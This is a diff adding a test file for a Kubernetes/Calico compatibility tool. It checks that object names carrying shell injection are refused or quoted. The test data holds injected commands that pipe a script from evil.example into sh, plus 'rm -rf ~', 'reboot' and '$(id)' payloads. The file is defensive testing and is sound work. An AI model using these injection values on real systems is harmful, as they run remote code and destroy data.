@@ -1,0 +1,112 @@
+// The defects of the December 2026 attack on the built package (docs/quality.md, "The attack of
+// 2026-12"), one test or more each, named after the defect's number in the report. Each failed before its
+// fix.
+import { describe, expect, it } from 'vitest';
+import { evaluateCompatibility } from '../../src/api.js';
+import { hintFor } from '../../src/catalog/hints.js';
+import { poolCommand } from '../../src/catalog/conditions.js';
+import { CALICO_3_23 } from '../../src/catalog/default.js';
+import { factsFromManifests } from '../../src/adapters/manifests.js';
+import { parseFacts } from '../../src/model/parse.js';
+import { quoteForShell } from '../../src/model/words.js';
+import { formatMarkdown } from '../../src/formatters/markdown.js';
+import { formatText } from '../../src/formatters/text.js';
+import type { ClusterFacts } from '../../src/model/facts.js';
+
+const problems = (input: unknown): string[] => {
+  const result = parseFacts(input);
+  return result.success ? [] : result.error.issues.map((i) => `${i.path}: ${i.message}`);
+};
+
+describe('defect 3: names go into copy-ready commands', () => {
+  it.each([
+    ['a pool name with a command', { calico: { ipPools: [{ name: 'default; curl -s https://evil.example/x.sh | sh; echo', encapsulation: 'ipip' }] } }, 'calico.ipPools[0].name'],
+    ['a node name with a command substitution', { nodes: [{ os: 'windows', name: '$(curl -s https://evil.example/y | sh)' }] }, 'nodes[0].name'],
+    ['a node name with upper case', { nodes: [{ os: 'linux', name: 'Linux-1' }] }, 'nodes[0].name'],
+    ['a node name over 253 characters', { nodes: [{ os: 'linux', name: 'a'.repeat(254) }] }, 'nodes[0].name'],
+    ['a pool name with a newline', { calico: { ipPools: [{ name: 'p\n```', encapsulation: 'vxlan' }] } }, 'calico.ipPools[0].name'],
+  ])('%s is refused at parse time, naming the path', (_name, facts, path) => {
+    const found = problems(facts);
+    expect(found).toHaveLength(1);
+    expect(found[0]).toMatch(
+      `${path}: is not a Kubernetes object name (lowercase letters, digits, '-' and '.', starting and ending with a letter or digit, at most 253 characters), got "`,
+    );
+  });
+
+  it('names Kubernetes gives are accepted', () => {
+    expect(problems({ nodes: [{ os: 'windows', name: 'ip-10-0-1-23.eu-west-1.compute.internal' }, { os: 'linux', name: 'aks-nodepool1-12345678-vmss000000' }] })).toEqual([]);
+  });
+
+  it('a manifest naming a pool or node so is refused with its position', () => {
+    const pool = { apiVersion: 'crd.projectcalico.org/v1', kind: 'IPPool', metadata: { name: 'p;reboot' }, spec: { cidr: '10.0.0.0/16', ipipMode: 'Always' } };
+    const node = { apiVersion: 'v1', kind: 'Node', metadata: { name: 'w$(id)' }, status: { nodeInfo: { operatingSystem: 'windows' } } };
+    expect(() => factsFromManifests([pool, node])).toThrow(
+      "Invalid object names: Kubernetes names are lowercase letters, digits, '-' and '.', starting and ending with a letter or digit, at most 253 characters:\n" +
+        "  [0].metadata.name: 'p;reboot' is not a Kubernetes object name: a IPPool cannot be named so\n" +
+        "  [1].metadata.name: 'w$(id)' is not a Kubernetes object name: a Node cannot be named so",
+    );
+  });
+
+  it.each([
+    ['plain', 'default-ipv4-ippool', 'default-ipv4-ippool', 'default-ipv4-ippool'],
+    ['spaces and a semicolon', 'p; reboot', "'p; reboot'", "'p; reboot'"],
+    ['a single quote', "it's", "'it'\\''s'", "'it''s'"],
+    ['a command substitution', '$(id)', "'$(id)'", "'$(id)'"],
+    ['a typographic quote', 'a\u2019b', "'a\u2019b'", "'a\u2019\u2019b'"],
+    ['nothing', '', "''", "''"],
+  ])('quoteForShell: %s', (_name, value, posix, powershell) => {
+    expect(quoteForShell(value, 'posix')).toBe(posix);
+    expect(quoteForShell(value, 'powershell')).toBe(powershell);
+  });
+
+  it('commands quote what they interpolate, whatever the API was given', () => {
+    expect(poolCommand(CALICO_3_23.commands.disablePool ?? '', { pool: 'p; reboot' })).toBe(`calicoctl patch ippool 'p; reboot' -p '{"spec":{"disabled":true}}'`);
+    expect(hintFor('nodes[w; reboot].osBuild')).toMatch(/^kubectl get node 'w; reboot' /);
+    // Unvalidated facts straight into the API: the remediation still runs one command.
+    const report = evaluateCompatibility({ networking: 'calico-vxlan', calico: { ipPools: [{ name: 'x;rm -rf ~', encapsulation: 'ipip' }] } } as ClusterFacts, { rules: ['ip-pool-encapsulation'] });
+    expect(report.findings[0]?.remediation).toBe(`calicoctl patch ippool 'x;rm -rf ~' -p '{"spec":{"ipipMode":"Never","vxlanMode":"Always"}}'`);
+  });
+});
+
+describe('defect 10: every pool has one identity', () => {
+  it('a name like a fallback subject cannot be given', () => {
+    expect(problems({ calico: { ipPools: [{ name: 'calico.ipPools[1]', encapsulation: 'vxlan' }, { encapsulation: 'ipip' }] } })).toEqual([
+      `calico.ipPools[0].name: is not a Kubernetes object name (lowercase letters, digits, '-' and '.', starting and ending with a letter or digit, at most 253 characters), got "calico.ipPools[1]"`,
+    ]);
+  });
+
+  it('a name cannot be a CIDR, and two unnamed pools cannot share one', () => {
+    expect(problems({ calico: { ipPools: [{ cidr: '10.1.0.0/16', encapsulation: 'vxlan' }, { name: '10.1.0.0/16', encapsulation: 'ipip' }] } })).toHaveLength(1);
+    expect(problems({ calico: { ipPools: [{ cidr: '10.1.0.0/16', encapsulation: 'vxlan' }, { cidr: '10.1.0.0/16', encapsulation: 'ipip' }] } })).toEqual([
+      'calico.ipPools[1].cidr: duplicates the CIDR of calico.ipPools[0]: give the pools names, or drop the duplicate, got "10.1.0.0/16"',
+    ]);
+    expect(problems({ calico: { ipPools: [{ cidr: '10.1.0.0', encapsulation: 'vxlan' }] } })).toEqual([
+      `calico.ipPools[0].cidr: is not a CIDR (expected something like '10.244.0.0/16'), got "10.1.0.0"`,
+    ]);
+  });
+
+  it('valid pools, in either order, get one subject each, the same in both orders', () => {
+    const pools = [
+      { cidr: '10.1.0.0/16', encapsulation: 'vxlan' },
+      { name: 'named', cidr: '10.1.0.0/16', encapsulation: 'ipip' },
+      { encapsulation: 'ipip' },
+    ] as const;
+    const subjects = (list: readonly (typeof pools)[number][]) => {
+      const facts = parseFacts({ networking: 'calico-vxlan', calico: { ipPools: list } });
+      if (!facts.success) throw facts.error;
+      return evaluateCompatibility(facts.data, { rules: ['ip-pool-encapsulation'] })
+        .findings.map((f) => `${f.subject.kind === 'cluster' ? 'cluster' : f.subject.name}=${f.status}`)
+        .sort();
+    };
+    expect(subjects(pools)).toEqual(['10.1.0.0/16=pass', 'calico.ipPools[2]=fail', 'named=fail']);
+    expect(subjects([pools[1], pools[0], pools[2]]).filter((s) => !s.startsWith('calico.'))).toEqual(['10.1.0.0/16=pass', 'named=fail']);
+  });
+});
+
+describe('defect 20: hintFor reads its own table only', () => {
+  it.each(['constructor', '__proto__', 'toString', 'nodes[w].constructor'])('%s gets the generic hint', (path) => {
+    expect(hintFor(path)).toBe('add it to the facts.');
+  });
+});
+
+export { formatMarkdown, formatText };
